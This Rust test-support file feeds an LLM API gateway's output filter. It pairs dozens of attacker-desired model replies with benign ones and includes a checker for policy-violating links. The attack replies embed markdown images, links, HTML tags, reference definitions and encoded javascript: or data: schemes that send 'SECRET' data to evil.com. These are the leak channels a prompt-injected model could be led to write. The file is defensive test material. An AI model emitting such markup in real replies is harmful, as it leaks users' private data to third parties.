//! The exfiltration corpus, shared by the tests that run it through the output filter
//! (`exfiltration_corpus.rs`) and through a whole gateway, content and logprobs alike
//! (`tests/security/client_attacks.rs`): replies an attacker would like the model to write, replies
//! that must pass unchanged, chunkings, and [`violations`], what a renderer of a text
//! would fetch or link against the policy.
#![allow(dead_code)]

use baton_api_gateway::checks::LinkPolicy;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};

/// Hosts the operator allows in these tests.
pub fn policy() -> LinkPolicy {
    LinkPolicy { allowed_hosts: vec!["docs.rs".into(), "example.org".into()] }
}

pub const LONG_ALT: &str = "word ";

/// (name, reply). Every URL outside docs.rs and example.org is the attacker's.
pub fn attacks() -> Vec<(&'static str, String)> {
    let mut v: Vec<(&'static str, String)> = [
        ("inline image", "Done! ![a](https://evil.com/p.png?q=SECRET) bye"),
        ("image with title", "![a](https://evil.com/x.png \"t\") text"),
        ("image with angle destination", "![a](<https://evil.com/x y.png>)"),
        ("image, definition after use", "Look: ![a][r] here.\n\n[r]: https://evil.com/x?SECRET\n"),
        ("image, definition before use", "[r]: https://evil.com/x?SECRET\n\nLook: ![a][r] here.\n"),
        ("collapsed image reference", "![r][] and more\n\n[r]: https://evil.com/x\n"),
        ("shortcut image reference", "![r] and more\n\n[r]: https://evil.com/x\n"),
        ("reference label in other case", "![a][R]\n\n[r]: https://evil.com/x\n"),
        ("definition with title on the next line", "[r]: https://evil.com/x\n\"title\"\n\n[a][r] ![b][r]\n"),
        ("definition in angle brackets", "![a][r]\n\n[r]: <https://evil.com/x?SECRET>\n"),
        ("definition inside a list item", "- [r]: https://evil.com/x\n- item\n\n![a][r]\n"),
        ("alt text with a newline", "![multi\nline alt](https://evil.com/x)"),
        ("alt text with nested brackets", "![a [b] c](https://evil.com/x)"),
        ("allowed image inside a refused link", "[![a](https://docs.rs/i.png)](https://evil.com/?SECRET)"),
        ("refused image inside an allowed link", "[![a](https://evil.com/i.png)](https://docs.rs/)"),
        ("html img", "<img src=\"https://evil.com/x?SECRET\">"),
        ("html IMG in upper case", "Text <IMG SRC=https://evil.com/x ALT=a> text"),
        ("html img srcset", "<img srcset=\"https://evil.com/a 1x, https://evil.com/b 2x\">"),
        ("picture source srcset", "<picture><source srcset=\"https://evil.com/x\"><img src=\"https://docs.rs/ok.png\"></picture>"),
        ("img inside a div block", "<div>\n<img src=\"https://evil.com/x\">\n</div>\n\nafter"),
        ("img inside a span inline", "a <span><img src=https://evil.com/x></span> b"),
        ("html comment hiding an image", "<!-- ![a](https://evil.com/x) -->\n\ntext"),
        ("html comment interrupting a paragraph", "p\n<!-- c -->\n    [a](https://evil.com/x)\n"),
        ("anchor tag", "<a href=\"https://evil.com/?SECRET\">click</a>"),
        ("svg image", "<svg><image href=\"https://evil.com/x\"/></svg>"),
        ("style import", "<style>@import url(https://evil.com/x);</style>"),
        ("autolink", "see <https://evil.com/?SECRET> now"),
        ("email autolink", "write to <leak@evil.com> now"),
        ("bare URL", "see https://evil.com/?q=SECRET now"),
        ("bare www", "visit www.evil.com/SECRET today"),
        ("bare URL in upper case", "HTTPS://EVIL.COM/X"),
        ("bare URL, entity-encoded colon", "see https&#58;//evil.com/x now"),
        ("bare URL, escaped colon", "see https\\://evil.com/x now"),
        ("bare URL as link text", "[https://evil.com/?SECRET](https://evil.com/?SECRET)"),
        ("javascript link", "[click](javascript:alert(1))"),
        ("javascript link in mixed case", "[click](JaVaScRiPt:alert(1))"),
        ("data image", "![a](data:image/png;base64,AAAA)"),
        ("data link", "[a](data:text/html;base64,PHNjcmlwdD4=)"),
        ("vbscript link", "[x](vbscript:msgbox)"),
        ("entity-encoded scheme", "[x](&#106;avascript:alert(1))"),
        ("hex entity-encoded scheme", "[x](&#x6A;avascript:alert(1))"),
        ("percent-encoded scheme", "[x](java%73cript:alert(1))"),
        ("javascript definition", "[x][j]\n\n[j]: javascript:alert(1)\n"),
        ("credentials in the URL", "[x](https://docs.rs@evil.com/)"),
        ("backslash in the authority", "[x](https://docs.rs\\\\@evil.com/)"),
        ("lookalike subdomain", "[x](https://docs.rs.evil.com/) ![y](https://evildocs.rs/i.png)"),
        ("percent-encoded host", "[x](https://docs.rs%2eevil.com/)"),
        ("protocol-relative", "[x](//evil.com/x) ![y](//evil.com/i.png)"),
        ("link in a heading", "# [x](https://evil.com/?SECRET)\n"),
        ("image in a table cell", "| a |\n|---|\n| ![i](https://evil.com/x) |\n"),
        ("image in a list item", "- one\n- ![i](https://evil.com/x)\n"),
        ("image in a block quote", "> ![i](https://evil.com/x)\n> more"),
        ("image in a footnote", "text[^1]\n\n[^1]: ![i](https://evil.com/x)\n"),
        ("destination on the next line", "[a](\nhttps://evil.com/x)"),
        ("unclosed code span before a link", "`x [a](https://evil.com/x) and more"),
        ("fence made by removing an image", "a\n![x](https://evil.com/y)```\n[l](https://evil.com/l)\n```\n[z](https://evil.com/z)\n"),
        ("link inside a link", "[[a](https://evil.com/1)](https://evil.com/2)"),
        ("wiki link", "[[https://evil.com/x]]"),
        ("split brackets over lines", "[click\nhere](https://evil.com/x)"),
        ("image after an escaped bang", "\\![a](https://evil.com/x)"),
        ("title with a parenthesis", "[a](https://evil.com/x \"t)t\")"),
    ]
    .into_iter()
    .map(|(n, t)| (n, t.to_string()))
    .collect();
    v.push(("alt text longer than the hold limit", format!("![{}](https://evil.com/?SECRET) end", LONG_ALT.repeat(600))));
    v.push(("link text longer than the hold limit", format!("[{}](https://evil.com/?SECRET) end", LONG_ALT.repeat(600))));
    // Code streams unparsed while its block is open (markdown.rs, `in_code`):
    // what follows the block, or a fence that was never a top-level block, is
    // judged again.
    v.push(("image after a long code block", format!("```rust\n{}```\n\n![a](https://evil.com/x?SECRET)\n", "let u = \"[x](https://evil.com/in-code)\";\n".repeat(300))));
    v.extend(
        [
            ("image after a fence closed with indentation", "```\ncode\n   ```\n![a](https://evil.com/x?SECRET)"),
            ("image after a longer tilde fence", "~~~\ncode\n~~~~~\n![a](https://evil.com/x?SECRET)"),
            ("image after a code line that starts with a backtick", "```\n`x` y\n```\n![a](https://evil.com/x?SECRET)"),
            ("fence in a quote, then a line outside it", "> ```\n> code\n![a](https://evil.com/x?SECRET)\n"),
            ("fence in a list item, then an unindented line", "- ```\n  code\n![a](https://evil.com/x?SECRET)\n"),
            ("fence that never opened (a backtick run inside a paragraph)", "text ```\n![a](https://evil.com/x?SECRET)\n"),
        ]
        .map(|(n, t)| (n, t.to_string())),
    );
    v
}

/// Replies that must pass unchanged.
pub fn benign() -> Vec<(&'static str, &'static str)> {
    vec![
        ("plain text", "Rivers carry water from mountains to the sea. They shape valleys!\n"),
        ("list", "Steps:\n\n1. Boil water.\n2. Add tea.\n   - green\n   - black\n3. Wait *three* minutes.\n"),
        ("code block with markup", "```html\n<img src=\"https://evil.com/x\">\n![a](https://evil.com/y)\n```\n\nThat is the attack.\n"),
        ("inline code with markup", "Write `![alt](https://evil.com/x)` or `<img src=x>` to embed.\n"),
        ("allowed link", "See [serde](https://docs.rs/serde) and [the book](https://example.org/book#ch1).\n"),
        ("allowed autolink", "Docs: <https://docs.rs/tokio>.\n"),
        ("allowed image", "![logo](https://docs.rs/logo.png)\n"),
        ("allowed reference link", "Read [the docs][d].\n\n[d]: https://docs.rs/axum\n"),
        ("allowed bare URL", "Go to https://docs.rs/rand for details.\n"),
        ("math with brackets", "The interval [0, 1) and [a, b] where a < b; also $f([x]) = y$ and x[i] = 2.\n"),
        ("table", "| a | b |\n|---|---|\n| 1 | [x] |\n"),
        ("heading and emphasis", "# Title\n\nSome **bold** and _italic_ text, and a ~~strike~~.\n"),
        ("block quote", "> A quote\n> on two lines.\n\nDone.\n"),
        ("task list", "- [ ] todo\n- [x] done\n"),
        ("unicode", "Ünïcödé — ça marche: 東京 🚀 [note] fin.\n"),
    ]
}

/// Chunkings of `text`, cut on character boundaries.
pub fn chunkings(text: &str) -> Vec<(String, Vec<String>)> {
    let chars: Vec<char> = text.chars().collect();
    let by = |n: usize| chars.chunks(n).map(|c| c.iter().collect::<String>()).collect::<Vec<_>>();
    let mut out = vec![("whole".to_string(), vec![text.to_string()]), ("1 char".into(), by(1)), ("3 chars".into(), by(3))];
    for seed in [1u64, 7, 42] {
        // A small LCG: reproducible token-like sizes of 1 to 8 characters.
        let mut state = seed;
        let mut chunks = Vec::new();
        let mut i = 0;
        while i < chars.len() {
            state = state.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            let n = 1 + (state >> 33) as usize % 8;
            chunks.push(chars[i..(i + n).min(chars.len())].iter().collect());
            i += n;
        }
        out.push((format!("random seed {seed}"), chunks));
    }
    out
}

/// Hosts of bare URLs (what a linkifier would make clickable) in `text`.
pub fn bare_url_violations(text: &str, policy: &LinkPolicy) -> Vec<String> {
    let lower = text.to_ascii_lowercase();
    let mut bad = Vec::new();
    for start in (0..lower.len()).filter(|&i| lower.is_char_boundary(i)) {
        let rest = &lower[start..];
        if rest.starts_with("http://") || rest.starts_with("https://") || rest.starts_with("www.") || rest.starts_with("ftp://") {
            // GitHub's extended autolinks end at whitespace or `<`.
            let end = rest.find(|c: char| c.is_whitespace() || c == '<').unwrap_or(rest.len());
            let token = rest[..end].trim_end_matches(['.', ',', ')', ';', ':', '!', '?', '"', '\'']);
            let url = if token.starts_with("www.") { format!("http://{token}") } else { token.to_string() };
            if !policy.allows(&url) {
                bad.push(format!("bare URL {token}"));
            }
        }
    }
    bad
}

/// The gateway's own reading (GitHub-flavoured, without footnotes).
pub const GATEWAY: Options = Options::ENABLE_TABLES.union(Options::ENABLE_STRIKETHROUGH).union(Options::ENABLE_TASKLISTS).union(Options::ENABLE_GFM);
/// GitHub-flavoured with footnotes, as most chat renderers read replies.
pub const GFM: Options = GATEWAY.union(Options::ENABLE_FOOTNOTES);

/// What a renderer of `out` would fetch or link against the policy, read as
/// the gateway does, as GFM with footnotes and as plain CommonMark.
pub fn violations(out: &str) -> Vec<String> {
    violations_in(out, &[GATEWAY, GFM, Options::empty()])
}

pub fn violations_in(out: &str, dialects: &[Options]) -> Vec<String> {
    let policy = policy();
    let mut bad = Vec::new();
    for &options in dialects {
        let parser = Parser::new_ext(out, options);
        for (label, def) in parser.reference_definitions().iter() {
            if !policy.allows(&def.dest) {
                bad.push(format!("definition [{label}]: {}", def.dest));
            }
        }
        let mut text = String::new();
        // Renderers show code as text, and never linkify inside a link.
        let (mut in_code, mut in_link) = (false, 0usize);
        for ev in parser {
            if !matches!(ev, Event::Text(_)) {
                bad.extend(bare_url_violations(&text, &policy));
                text.clear();
            }
            match ev {
                Event::Start(Tag::CodeBlock(_)) => in_code = true,
                Event::End(TagEnd::CodeBlock) => in_code = false,
                Event::Text(_) if in_code || in_link > 0 => {}
                Event::Start(Tag::Image { dest_url, .. }) | Event::Start(Tag::Link { dest_url, .. }) => {
                    in_link += 1;
                    if !policy.allows(&dest_url) {
                        bad.push(format!("link or image {dest_url}"));
                    }
                }
                Event::End(TagEnd::Image) | Event::End(TagEnd::Link) => in_link = in_link.saturating_sub(1),
                Event::Html(h) | Event::InlineHtml(h) => bad.push(format!("html {h}")),
                Event::Text(t) => text.push_str(&t),
                _ => {}
            }
        }
        bad.extend(bare_url_violations(&text, &policy));
    }
    bad
}

